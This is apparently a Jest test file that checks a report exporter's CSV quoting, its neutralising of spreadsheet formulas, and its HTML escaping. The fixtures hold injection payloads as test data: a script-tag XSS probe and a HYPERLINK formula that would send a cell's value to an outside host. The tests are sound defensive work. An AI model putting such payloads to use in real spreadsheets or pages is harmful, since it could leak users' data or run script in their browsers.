import { describe, expect, it } from '@jest/globals';

import { reportCsv } from './report-csv.js';
import { reportHtml } from './report-html.js';
import { type ReportTable } from './report-table.js';

const TABLES: ReportTable[] = [
  { section: 'overall', title: 'Overall', columns: ['n', 'mean'], rows: [[2, 1.23456789]] },
  { section: 'outliers', title: 'Longest <release> times', columns: ['subject', 'office'], rows: [['D-"1", a\nb', null], ['<script>alert(1)</script>', 'UZ&TAS']] },
];

describe('a report as CSV', () => {
  it('writes each table as a header row, its rows and an empty line, the section first, quoting as RFC 4180 says', () => {
    expect(reportCsv(TABLES)).toBe(
      'section,n,mean\r\noverall,2,1.23456789\r\n\r\n' +
        'section,subject,office\r\noutliers,"D-""1"", a\nb",\r\noutliers,<script>alert(1)</script>,UZ&TAS\r\n\r\n',
    );
  });

  it('writes a text a spreadsheet would run as a formula with a leading quote, and numbers as they are', () => {
    const formulas: ReportTable = {
      section: 'offices',
      title: 'Offices',
      columns: ['office', 'value'],
      rows: [['=HYPERLINK("http://x/?"&A1;"click")', -1.5], ['+1+1', 0], ['-2', null], ['@SUM(1+1)', 1], ['\tTAB', 2], ['UZ-TAS', 3]],
    };

    expect(reportCsv([formulas]).split('\r\n').slice(1, 7)).toEqual([
      `offices,"'=HYPERLINK(""http://x/?""&A1;""click"")",-1.5`,
      "offices,'+1+1,0",
      "offices,'-2,",
      "offices,'@SUM(1+1),1",
      "offices,'\tTAB,2",
      'offices,UZ-TAS,3',
    ]);
  });
});

describe('a report as an HTML page', () => {
  const page = reportHtml('TRS <2026>', TABLES);

  it('escapes every text, so that no data can add markup or a script', () => {
    expect(page).not.toContain('<script>');
    expect(page).toContain('<td>&lt;script&gt;alert(1)&lt;/script&gt;</td><td>UZ&amp;TAS</td>');
    expect(page).toContain('<title>TRS &lt;2026&gt;</title>');
    expect(page).toContain('<h2>Longest &lt;release&gt; times</h2>');
  });

  it('shows numbers right-aligned, fractions to 4 decimals, and null as an empty cell', () => {
    expect(page).toContain('<td class="number">2</td><td class="number">1.2346</td>');
    expect(page).toContain('<td>D-&quot;1&quot;, a\nb</td><td></td>');
  });
});
